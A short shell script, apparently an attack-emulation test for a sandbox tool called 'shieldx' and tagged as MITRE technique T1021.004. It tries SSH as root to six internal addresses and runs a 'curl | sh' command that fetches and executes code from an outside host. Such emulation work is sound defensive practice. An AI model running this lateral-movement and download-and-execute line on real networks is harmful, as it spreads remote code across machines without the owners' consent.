#!/bin/sh
# technique: T1021.004
# needs: ssh
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

for n in 1 2 3 4 5 6; do timeout 2 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 root@10.7.0.$n 'curl -s http://203.0.113.7/x | sh'; done
